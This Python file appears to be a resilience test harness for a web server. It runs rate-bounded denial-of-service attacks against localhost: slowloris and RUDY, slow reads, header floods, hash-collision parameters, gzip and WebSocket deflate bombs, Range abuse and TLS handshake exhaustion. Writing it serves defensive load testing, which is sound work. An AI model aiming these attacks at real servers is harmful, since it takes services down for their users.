"""Attackers: each a process of its own that does one kind of harm at a bounded rate.

    attackers.py NAME PLAIN-PORT TLS-PORT SECONDS [SCALE]

prints "begun" once it is at work, and at its end what it has come to as JSON. SCALE: of connections and rate, 1 is as
in SCENARIOS. It attacks 127.0.0.1 and comes from many addresses of 127.0.0.0/8.
"""

import asyncio
import collections
import errno
import itertools
import json
import os
import pathlib
import resource
import socket
import sys
import time
import zlib
from typing import NamedTuple

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))
import tls_attacker  # noqa: E402
import websocket_client as ws  # noqa: E402

SOURCES = [f"127.0.{i}.{j}" for i in range(1, 5) for j in range(1, 9)]
DRIP = 0.25  # seconds between two bytes of who is slow
PATIENCE = 30


class Attack:
    """What an attacker has at hand. counts: what came of it."""

    def __init__(self, plain, tls, rate):
        self.counts = collections.Counter()
        self._ports = {False: plain, True: tls}
        self._sources = itertools.cycle(SOURCES)
        self._pause = 1 / rate
        self._next = 0
        self.loop = asyncio.get_running_loop()

    async def pace(self):
        """Wait for our turn: all of a process together go at its rate."""
        now = time.monotonic()
        self._next = max(self._next, now - 0.1) + self._pause
        await asyncio.sleep(max(0, self._next - now))

    async def connect(self, tls=False, receive_buffer=None):
        """A connection from the next address, at the process's rate."""
        await self.pace()
        plain = socket.socket()
        try:
            plain.setblocking(False)
            plain.setsockopt(socket.SOL_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT: the same port for many peers
            if receive_buffer is not None:
                plain.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
            plain.bind((next(self._sources), 0))
            self.counts["connections"] += 1
            await asyncio.wait_for(self.loop.sock_connect(plain, ("127.0.0.1", self._ports[tls])), PATIENCE)
        except BaseException:
            plain.close()
            raise
        return plain

    async def send(self, plain, data):
        await asyncio.wait_for(self.loop.sock_sendall(plain, data), PATIENCE)

    async def answer(self, plain):
        """Count the status of what comes back; True when there is more to be had on the connection."""
        data = await asyncio.wait_for(self.loop.sock_recv(plain, 65536), PATIENCE)
        status = data[9:12].decode("latin-1") if data.startswith(b"HTTP/1.1 ") else "closed" if not data else "other"
        self.counts[f"answers {status}"] += 1
        return status == "200"

    async def ask(self, data):
        """One request on a connection of its own."""
        with await self.connect() as plain:
            await self.send(plain, data)
            await self.answer(plain)

    async def ask_often(self, data):
        """Requests on one connection, each at the process's rate."""
        with await self.connect() as plain:
            while True:
                await self.send(plain, data)
                if not await self.answer(plain):
                    return
                await self.pace()

    async def drip(self, plain, byte):
        """A byte from time to time, until the server has had enough."""
        while True:
            try:
                data = plain.recv(4096)
                self.counts["answers " + (data[9:12].decode("latin-1") if data else "closed")] += 1
                return
            except BlockingIOError:
                pass
            await asyncio.sleep(DRIP)
            await self.send(plain, byte)

    async def open_websocket(self, extensions=()):
        """A connection that is one."""
        plain = await self.connect()
        lines = ["GET /ws HTTP/1.1", "Host: x", "Upgrade: websocket", "Connection: Upgrade",
                 "Sec-WebSocket-Version: 13", f"Sec-WebSocket-Key: {ws.KEY}", *extensions, "", ""]
        try:
            await self.send(plain, "\r\n".join(lines).encode())
            answer = await asyncio.wait_for(self.loop.sock_recv(plain, 65536), PATIENCE)
            self.counts["answers " + answer[9:12].decode("latin-1")] += 1
        except BaseException:
            plain.close()
            raise
        return plain


# --- slow ones ---

async def slow_headers(attack):
    with await attack.connect() as plain:
        await attack.send(plain, b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")
        await attack.drip(plain, b"a")


async def slow_body(attack):
    with await attack.connect() as plain:
        await attack.send(plain, b"POST /length HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n")
        await attack.drip(plain, b"a")


async def slow_read(attack):
    """Takes a few bytes at a time of an answer of 4 MB."""
    with await attack.connect(receive_buffer=2048) as plain:
        await attack.send(plain, b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
        while data := await asyncio.wait_for(attack.loop.sock_recv(plain, 16), PATIENCE):
            attack.counts["bytes read"] += len(data)
            await asyncio.sleep(DRIP * 4)


async def no_read(attack):
    """Takes nothing of it at all, and waits until that is over."""
    with await attack.connect(receive_buffer=2048) as plain:
        await attack.send(plain, b"GET /large HTTP/1.1\r\nHost: x\r\n\r\n")
        while plain.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            await asyncio.sleep(DRIP)


# --- too much ---

async def many_headers(attack):
    fields = b"".join(b"X-%d: y\r\n" % number for number in range(3000))
    await attack.ask(b"GET / HTTP/1.1\r\nHost: x\r\n" + fields + b"\r\n")


async def long_header(attack):
    with await attack.connect() as plain:
        await attack.send(plain, b"GET / HTTP/1.1\r\nHost: x\r\nX: ")
        while True:
            await attack.send(plain, b"y" * 16384)
            await attack.pace()


async def connect_and_close(attack):
    (await attack.connect()).close()


async def connect_and_hold(attack):
    with await attack.connect() as plain:
        data = await attack.loop.sock_recv(plain, 4096)
        attack.counts["answers " + (data[9:12].decode("latin-1") if data else "closed")] += 1


async def byte_chunks(attack):
    """A body in chunks of a byte each, with an extension for each."""
    with await attack.connect() as plain:
        await attack.send(plain, b"POST /length HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
        for _ in range(100):
            await attack.send(plain, b"1;a\r\nx\r\n" * 500)
            await attack.pace()
        await attack.send(plain, b"0\r\n\r\n")
        await attack.answer(plain)


def colliding(count):
    """Names of one length with one hash in functions of the kind h * 33 + c."""
    return ["".join(parts).encode() for parts in itertools.islice(itertools.product(("aR", "b1"), repeat=10), count)]


async def ask_with_names(attack, names):
    """As parameters, cookies and fields of requests."""
    query = b"&".join(b"%s=1" % name for name in names)
    cookies = b"; ".join(b"%s=1" % name for name in names)
    fields = b"".join(b"%s: 1\r\n" % name for name in names[:80])
    await attack.ask_often(b"GET /parse?" + query + b" HTTP/1.1\r\nHost: x\r\n" + fields + b"Cookie: " + cookies
                           + b"\r\n\r\n")


async def hash_collisions(attack):
    await ask_with_names(attack, colliding(120))


async def many_names(attack):
    """What the same costs with names that do not fall together."""
    await ask_with_names(attack, [b"%020d" % number for number in range(120)])


async def percent_signs(attack):
    await attack.ask(b"GET /" + b"%" * 10000 + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    await attack.ask_often(b"GET /?" + b"%25" * 2600 + b" HTTP/1.1\r\nHost: x\r\n\r\n")


# --- what is larger than it looks ---

async def coded_body(attack):
    """Ten megabytes of zeros in ten kilobytes: for the server it is that which came."""
    body = zlib.compress(bytes(10 << 20), 9)
    await attack.ask_often(b"POST /length HTTP/1.1\r\nHost: x\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n"
                           % len(body) + body)


async def many_ranges(attack):
    ranges = ",".join(f"{at}-{at}" for at in range(0, 9000, 2))[:28000].rpartition(",")[0]
    await attack.ask(b"GET /files/large HTTP/1.1\r\nHost: x\r\nRange: bytes=" + ranges.encode() + b"\r\n\r\n")


async def accepted_codings(attack):
    codings = ",".join(f"x{number};q=0.{number % 10}" for number in range(2000))[:24000].rpartition(",")[0]
    await attack.ask_often(b"GET / HTTP/1.1\r\nHost: x\r\nAccept-Encoding: " + codings.encode() + b"\r\n\r\n")


# --- WebSockets ---

async def huge_frames(attack):
    with await attack.open_websocket() as plain:
        await attack.send(plain, ws.frame(ws.BINARY, b"x" * 1000, length=(1 << 62)))
        while await asyncio.wait_for(attack.loop.sock_recv(plain, 4096), PATIENCE):
            attack.counts["frames of the server"] += 1


async def fragments_without_end(attack):
    """Each of one byte, of a message that never ends."""
    with await attack.open_websocket() as plain:
        await attack.send(plain, ws.frame(ws.TEXT, b"x", fin=False))
        piece = ws.frame(ws.CONTINUATION, b"x", fin=False, key=b"\0\0\0\0") * 2000
        while True:
            await attack.send(plain, piece)
            attack.counts["frames"] += 2000
            await attack.pace()


async def pings(attack):
    """Whose answers nobody reads."""
    with await attack.open_websocket() as plain:
        piece = ws.frame(ws.PING, b"x" * 125, key=b"\0\0\0\0") * 100
        while True:
            await attack.send(plain, piece)
            attack.counts["frames"] += 100
            await attack.pace()


async def deflated_bomb(attack):
    """64 MB of zeros in 64 KB, by permessage-deflate."""
    with await attack.open_websocket(["Sec-WebSocket-Extensions: permessage-deflate"]) as plain:
        await attack.send(plain, BOMB[0])
        while await asyncio.wait_for(attack.loop.sock_recv(plain, 4096), PATIENCE):
            attack.counts["frames of the server"] += 1


BOMB = []


def make_bomb():
    coder = zlib.compressobj(9, wbits=-15)
    zeros = bytes(1 << 20)
    data = b"".join(coder.compress(zeros) for _ in range(64)) + coder.flush(zlib.Z_SYNC_FLUSH)
    BOMB.append(ws.frame(ws.BINARY, data[:-4], rsv=4, key=b"\0\0\0\0"))


# --- TLS ---

async def handshakes(attack):
    """The server's signature is waited for, which costs it most, and then we are gone."""
    with await attack.connect(tls=True) as plain:
        await attack.send(plain, tls_attacker.record(tls_attacker.HANDSHAKE, tls_attacker.client_hello()))
        data = await asyncio.wait_for(attack.loop.sock_recv(plain, 65536), PATIENCE)
        attack.counts["hellos of the server" if data else "answers closed"] += 1


async def half_handshakes(attack):
    with await attack.connect(tls=True) as plain:
        await attack.send(plain, tls_attacker.record(tls_attacker.HANDSHAKE, tls_attacker.client_hello())[:60])
        await attack.loop.sock_recv(plain, 4096)
        attack.counts["answers closed"] += 1


class Scenario(NamedTuple):
    """connections: at once; rate: of connections or requests a second; each: KB of a worker's memory that one of the
    connections may take by the limits that are set; options: of the server."""

    text: str
    client: object
    connections: int
    rate: int
    each: int
    options: tuple = ()
    application: str = "attacked:application"
    prepare: object = None


SLOW = ("--header-timeout", "2s", "--body-timeout", "2s", "--send-timeout", "2s")
HEAD = 80      # KB: a connection's own memory (40), what is kept of its request, and the kernel's share that is ours
BODY = HEAD + 512
SOCKET = HEAD + 3 * 1024
WEBSOCKET = ("--ws-max-size", "1m")

SCENARIOS = {
    "slow-headers": Scenario(
        "a byte of a header section every 0.25 s (slowloris)", slow_headers, 800, 800, HEAD, SLOW),
    "slow-body": Scenario("a byte of a body every 0.25 s (RUDY)", slow_body, 800, 800, BODY, SLOW),
    "slow-read": Scenario("answers of 4 MB, 16 bytes of them a second", slow_read, 300, 300, HEAD, SLOW),
    "no-read": Scenario("answers of 4 MB, nothing of them is read", no_read, 300, 300, HEAD, SLOW),
    "many-headers": Scenario("3,000 fields in a request", many_headers, 20, 300, HEAD),
    "long-header": Scenario("a field that never ends", long_header, 20, 300, HEAD),
    "connect-close": Scenario("connections that are opened and closed", connect_and_close, 50, 2500, HEAD),
    "connect-hold": Scenario(
        "5,000 connections that say nothing, 100 of an address may stay", connect_and_hold, 5000, 2500, HEAD,
        ("--max-connections-per-ip", "100", *SLOW)),
    "hold-without-limit": Scenario(
        "5,000 connections that say nothing, all may stay", connect_and_hold, 5000, 2500, HEAD, SLOW),
    "byte-chunks": Scenario("bodies in chunks of one byte", byte_chunks, 20, 300, BODY),
    "hash-collisions": Scenario(
        "names that fall together in simple hashes: fields, parameters, cookies", hash_collisions, 10, 100, HEAD),
    "many-names": Scenario("as many names that do not", many_names, 10, 100, HEAD),
    "percent-signs": Scenario("10,000 percent signs, and 2,600 that are coded", percent_signs, 10, 300, HEAD),
    "coded-body": Scenario("10 MB of zeros as 10 KB of gzip", coded_body, 10, 300, BODY),
    "many-ranges": Scenario("thousands of ranges of a file", many_ranges, 10, 100, HEAD),
    "accepted-codings": Scenario(
        "2,000 codings in Accept-Encoding", accepted_codings, 10, 300, HEAD,
        ("--compress", "--compress-min-size", "1")),
    "huge-frames": Scenario(
        "WebSocket frames that announce 2^62 bytes", huge_frames, 20, 300, SOCKET, WEBSOCKET, "attacked:sockets"),
    "fragments": Scenario(
        "WebSocket messages of fragments of a byte", fragments_without_end, 10, 150, SOCKET, WEBSOCKET,
        "attacked:sockets"),
    "pings": Scenario(
        "WebSocket pings whose answers nobody reads", pings, 20, 300, SOCKET, WEBSOCKET, "attacked:sockets"),
    "deflated-bomb": Scenario(
        "WebSocket messages that inflate a thousandfold", deflated_bomb, 10, 50, SOCKET, WEBSOCKET, "attacked:sockets",
        make_bomb),
    "handshakes": Scenario("TLS handshakes that end behind the server's signature", handshakes, 20, 200, HEAD + 64),
    "half-handshakes": Scenario("half of a ClientHello, and nothing more", half_handshakes, 1500, 1000, HEAD + 64),
}


async def again_and_again(attack, client):
    while True:
        try:
            await client(attack)
        except (OSError, asyncio.TimeoutError) as error:
            name = errno.errorcode.get(getattr(error, "errno", None), type(error).__name__)
            attack.counts[name] += 1
            await asyncio.sleep(0.01)


async def run(scenario, plain, tls, seconds, scale):
    attack = Attack(plain, tls, scenario.rate * scale)
    tasks = [asyncio.ensure_future(again_and_again(attack, scenario.client))
             for _ in range(max(1, round(scenario.connections * scale)))]
    print("begun", flush=True)
    failed, _ = await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
    try:
        print(json.dumps({"counts": attack.counts, "failures": [repr(task.exception()) for task in failed]}), flush=True)
    finally:
        os._exit(0)  # who is in the midst of something ends with it, also when nobody hears of it any more


def main(name, plain, tls, seconds, scale="1"):
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    scenario = SCENARIOS[name]
    if scenario.prepare is not None:
        scenario.prepare()
    os.nice(19)  # whoever is served is to have the processor first: it is the server that is judged
    asyncio.run(run(scenario, int(plain), int(tls), float(seconds), float(scale)))


if __name__ == "__main__":
    main(*sys.argv[1:])
